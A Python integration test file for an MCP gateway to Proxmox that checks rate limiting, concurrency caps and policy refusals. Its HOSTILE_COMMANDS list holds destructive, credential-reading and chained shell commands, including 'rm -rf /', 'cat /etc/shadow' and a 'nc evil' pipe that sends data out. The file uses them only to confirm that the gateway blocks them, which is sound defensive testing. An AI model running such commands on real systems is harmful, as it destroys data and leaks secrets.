"""Rate limits, the concurrency cap, and refusals that happen before any request leaves the gateway."""

from __future__ import annotations

import asyncio
import json
import time
from collections.abc import Iterator
from typing import Any

import httpx2
import nats
import pytest
from mcp.shared.exceptions import MCPError
from proxmox_mcp_contracts.envelope import Scope
from proxmox_mcp_contracts.subjects import API_SERVICE_NAME, SSH_SERVICE_NAME
from proxmox_mcp_gateway.routing_gate import REFUSED_BY_GATEWAY

from tests.integration.security.conftest import SecureStack
from tests.support.mcp_client import http_client
from tests.support.procs import wait_until
from tests.support.sim import clear_sim_faults, sim_faults

LIST = {"name": "list_vms", "arguments": {}}


def call(stack: SecureStack, token: str, body: dict[str, Any] = LIST) -> httpx2.Response:
    return httpx2.post(f"{stack.gateway.base_url}/api/mcp/tools/call", json=body,
                       headers={"Authorization": f"Bearer {token}"}, timeout=30)


def test_a_burst_past_the_token_limit_gets_429_with_retry_after_and_recovers(stack: SecureStack) -> None:
    token = stack.token(Scope.READ)
    # Every attempt counts, refused ones too: a burst of cheap invalid calls uses up the budget (20 per 20 s; a
    # slow refill, so a loaded machine still reaches the limit before it refills).
    cheap = {"name": "list_vms", "arguments": {"type": "neither"}}
    responses: list[httpx2.Response] = []
    while (not responses or responses[-1].status_code != 429) and len(responses) < 300:
        responses.append(call(stack, token, cheap))
    refused = responses[-1]
    assert refused.status_code == 429
    assert {r.status_code for r in responses[:20]} == {400}  # the whole burst of 20 went through first
    retry_after = int(refused.headers["retry-after"])
    error = refused.json()["error"]
    assert 1 <= retry_after <= 3 and error["code"] == "rate_limited" and error["retryable"]  # refill: 1 per s
    assert 0 < error["details"]["retry_after"] <= retry_after
    # A call refused with 429 takes nothing from the bucket, so polling does not delay the refill it waits for.
    wait_until(lambda: call(stack, token).status_code == 200, timeout=retry_after + 5, interval=0.05,
               what="the token's budget to refill")
    assert stack.audit()[-2]["result"] in ("rate_limited", "ok")


async def test_mcp_calls_past_the_limit_get_a_rate_limited_tool_error_with_retry_after(stack: SecureStack) -> None:
    token = stack.token(Scope.READ)
    async with http_client(stack.gateway.url, token, mode="legacy") as client:
        results = [await client.call_tool("node_status", {}) for _ in range(3)]  # per-tool limit: 2 per 6 s
        assert not results[0].is_error and not results[1].is_error
        limited = results[2]
        assert limited.is_error and limited.structured_content is not None
        assert limited.structured_content["code"] == "rate_limited"
        wait = limited.structured_content["details"]["retry_after"]
        assert 0 < wait <= 3.0 and "retry after " in limited.content[0].text  # type: ignore[union-attr]
        assert not (await client.call_tool("list_vms", {})).is_error  # other tools are not affected
        deadline = time.monotonic() + wait + 5  # a rate_limited call takes nothing from the bucket: poll
        while (again := await client.call_tool("node_status", {})).is_error and time.monotonic() < deadline:
            assert again.structured_content and again.structured_content["code"] == "rate_limited"
            await asyncio.sleep(0.05)
        assert not again.is_error


async def test_a_2026_call_past_the_limit_is_refused_429_from_its_routing_header(stack: SecureStack) -> None:
    token = stack.token(Scope.READ)
    async with http_client(stack.gateway.url, token) as client:
        for _ in range(2):  # per-tool limit: 2 per 6 s
            assert not (await client.call_tool("node_status", {})).is_error
        with pytest.raises(MCPError) as limited:
            await client.call_tool("node_status", {})
        error = limited.value.error
        assert error.code == REFUSED_BY_GATEWAY and isinstance(error.data, dict)
        assert error.data["code"] == "rate_limited" and 0 < error.data["details"]["retry_after"] <= 3.0
        assert not (await client.call_tool("list_vms", {})).is_error  # other tools are not affected


async def test_calls_past_the_concurrency_cap_are_refused(stack: SecureStack) -> None:
    token = stack.token(Scope.OPERATE)  # cap: 2 calls in flight per token
    vmid = next(g["vmid"] for g in _guests(stack) if g["type"] == "qemu")
    sim_faults(stack.sim, [{"path": "/status/start$", "latency_ms": 1500}])  # two slow calls hold both slots
    try:
        async with http_client(stack.gateway.url, token) as client:
            slow = [asyncio.create_task(client.call_tool("vm_action", {"vmid": vmid, "action": "start"}))
                    for _ in range(2)]
            await _until_in_flight(stack, token, 2)
            third = await client.call_tool("list_vms", {})
            assert third.is_error and third.structured_content is not None
            refusal = third.structured_content
            assert refusal["code"] == "rate_limited" and "calls running" in refusal["message"]
            assert refusal["details"]["limit"] == "concurrency"
            await asyncio.gather(*slow)
            assert not (await client.call_tool("list_vms", {})).is_error
    finally:
        clear_sim_faults(stack.sim)


def _guests(stack: SecureStack) -> list[dict[str, Any]]:
    response = httpx2.get(f"{stack.sim.api_url}/cluster/resources", params={"type": "vm"}, timeout=10,
                          headers={"Authorization": stack.sim.admin_token["header"]}, verify=stack.sim.ssl_context())
    return response.json()["data"]


async def _until_in_flight(stack: SecureStack, token: str, count: int) -> None:
    """Both slow calls have started: their 'started' audit records are written before dispatch."""
    token_id = token.split("_")[1]
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        started = [e for e in stack.audit() if e["token_id"] == token_id and e["event"] == "tool_call_started"]
        if len(started) >= count:
            return
        await asyncio.sleep(0.02)
    raise TimeoutError("the slow calls never started")


async def _requests_seen(nats_url: str, service: str) -> int:
    """Requests the service's tool endpoints took (health probes excluded: the gateway sends those by itself).
    This stack runs one instance of each worker kind, so one $SRV.STATS reply is the whole count."""
    nc = await nats.connect(nats_url)
    try:
        msg = await nc.request(f"$SRV.STATS.{service}", b"", timeout=5)
        return sum(e.get("num_requests", 0) for e in json.loads(msg.data).get("endpoints", [])
                   if not e.get("subject", "").endswith(".probe"))
    finally:
        await nc.close()


@pytest.fixture
def sim_trap(stack: SecureStack) -> Iterator[None]:
    """Any request that reaches the simulator now fails with a marker the tests would see."""
    sim_faults(stack.sim, [{"path": ".*", "error_rate": 1.0, "status": 500, "message": "TRAP-reached-the-sim"}])
    try:
        yield
    finally:
        clear_sim_faults(stack.sim)


HOSTILE_COMMANDS = ["rm -rf /", "cat /etc/pve/priv/authkey.key", "uptime; reboot", "echo $(id)", "ls `pwd`",
                    "qm destroy 100", "qm stop 100", "bash -c id", "cat /etc/shadow", "dd if=/dev/sda of=/tmp/x",
                    "df -h > /tmp/x", "ps aux | nc evil 1"]


async def test_commands_the_profile_refuses_are_answered_by_the_gateway_before_any_worker_request(
    stack: SecureStack,
) -> None:
    token = stack.token(Scope.EXEC)
    before = await _requests_seen(stack.nats.url, SSH_SERVICE_NAME)
    logins = stack.sshd.accepted_logins()
    async with http_client(stack.gateway.url, token) as client:
        for command in HOSTILE_COMMANDS:
            result = await client.call_tool("execute_command", {"command": command})
            assert result.is_error and result.structured_content is not None, command
            assert result.structured_content["code"] == "policy_denied", (command, result.structured_content)
            assert "refused by policy" in result.content[0].text  # type: ignore[union-attr]
    assert await _requests_seen(stack.nats.url, SSH_SERVICE_NAME) == before
    assert stack.sshd.accepted_logins() == logins
    denied = [e for e in stack.audit() if e["token_id"] == token.split("_")[1]]
    assert [e["result"] for e in denied] == ["policy_denied"] * len(HOSTILE_COMMANDS)


async def test_operator_commands_need_the_operator_profile(stack: SecureStack) -> None:
    readonly = stack.token(Scope.EXEC)
    async with http_client(stack.gateway.url, readonly) as client:
        result = await client.call_tool("execute_command", {"command": "qm start 100"})
        assert result.structured_content and result.structured_content["code"] == "policy_denied"
        assert "operator" in result.content[0].text  # type: ignore[union-attr]


@pytest.mark.parametrize("args,code", [
    ({"method": "GET", "path": "/access/users"}, "permission_denied"),
    ({"method": "GET", "path": "/access/ticket"}, "permission_denied"),
    ({"method": "GET", "path": "/nodes/{node}/execute"}, "permission_denied"),
    ({"method": "POST", "path": "/nodes/{node}/termproxy"}, "permission_denied"),
    ({"method": "GET", "path": "/nodes/{node}%2Fexecute"}, "permission_denied"),
    ({"method": "GET", "path": "/cluster/config/join"}, "permission_denied"),
    ({"method": "PUT", "path": "/cluster/config/totem"}, "permission_denied"),
    ({"method": "GET", "path": "/nodes/{node}/qemu/100/status/current", "data": {"bogus": "1"}}, "invalid_argument"),
    ({"method": "GET", "path": "/nodes/{node}/rrddata", "data": {"timeframe": "century"}}, "invalid_argument"),
    ({"method": "GET", "path": "/nodes/{node}/no-such-thing"}, "not_found"),
])
async def test_proxmox_api_refusals_never_reach_the_worker_or_the_simulator(
    stack: SecureStack, sim_trap: None, args: dict[str, Any], code: str,
) -> None:
    token = stack.token(Scope.EXEC)
    args = {**args, "path": args["path"].format(node=stack.sim.nodes[0])}
    before = await _requests_seen(stack.nats.url, API_SERVICE_NAME)
    async with http_client(stack.gateway.url, token) as client:
        result = await client.call_tool("proxmox_api", args)
    assert result.is_error and result.structured_content is not None
    assert result.structured_content["code"] == code, result.structured_content
    text = result.content[0].text  # type: ignore[union-attr]
    assert "TRAP" not in text
    if code == "invalid_argument" and "data" in args:
        assert next(iter(args["data"])) in text  # the message names the parameter
    assert await _requests_seen(stack.nats.url, API_SERVICE_NAME) == before


async def test_the_sim_trap_does_catch_a_request_that_gets_through(stack: SecureStack, sim_trap: None) -> None:
    """The control for the test above: an allowed call reaches the simulator and trips the trap."""
    token = stack.token(Scope.READ)
    async with http_client(stack.gateway.url, token) as client:
        result = await client.call_tool("proxmox_api", {"path": f"/nodes/{stack.sim.nodes[0]}/status"})
    assert result.is_error and "TRAP" in result.content[0].text  # type: ignore[union-attr]
